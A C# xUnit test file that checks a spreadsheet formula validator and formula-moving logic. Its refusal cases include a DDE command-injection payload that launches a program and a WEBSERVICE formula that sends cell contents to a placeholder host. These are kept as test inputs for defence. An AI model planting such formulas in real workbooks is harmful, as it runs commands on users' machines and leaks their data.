using SpotCheck.DocService.Workbooks;

namespace SpotCheck.DocService.Tests.Workbench;

public sealed class FormulaTextTests
{
    [Theory]
    [InlineData("SUM(A1:A3)", true)]
    [InlineData("IF(B2=\"[x]|y\",1,0)", true)]
    [InlineData("'计划'!A1*2", true)]
    [InlineData("[1]计划!A1", false)]
    [InlineData("'C:\\数据\\[别的.xlsx]计划'!A1", false)]
    [InlineData("cmd|'/c calc'!A0", false)]
    [InlineData("WEBSERVICE(\"http://x.example/?\"&A1)", false)]
    [InlineData("_xlfn.WEBSERVICE(A1)", false)]
    [InlineData("1+hyperlink (A1)", false)]
    [InlineData("MYHYPERLINK(A1)", true)]
    [InlineData("", false)]
    public void A_formula_stays_inside_its_workbook_or_is_refused(string formula, bool stays) => Assert.Equal(stays, FormulaText.StaysInside(formula));

    [Fact]
    public void A_formula_longer_than_Excel_takes_is_refused() => Assert.False(FormulaText.StaysInside(new string('1', 8_193)));

    [Theory]
    [InlineData("A1*2", 1, 0, "A2*2")]
    [InlineData("$A$1+B1", 2, 1, "$A$1+C3")]
    [InlineData("$A1+A$1", 1, 1, "$A2+B$1")]
    [InlineData("SUM(A1:B2)", 3, 0, "SUM(A4:B5)")]
    [InlineData("'2023年A1'!A1&\"A1\"", 1, 0, "'2023年A1'!A2&\"A1\"")]
    [InlineData("LOG10(A1)", 1, 0, "LOG10(A2)")]
    [InlineData("表A1!B2", 1, 0, "表A1!B3")]
    [InlineData("比例_A1+A1", 1, 0, "比例_A1+A2")]
    [InlineData("A1", -1, 0, "#REF!")]
    [InlineData("COUNTIF(A:A,A1)", 1, 0, "COUNTIF(A:A,A2)")]
    [InlineData("COUNTIF(A:A,A1)", 0, 1, null)]
    [InlineData("SUM(1:1)", 1, 0, null)]
    public void The_formula_of_a_shared_group_moves_with_its_cell(string formula, int rows, int columns, string? moved) =>
        Assert.Equal(moved, FormulaText.Moved(formula, rows, columns));
}
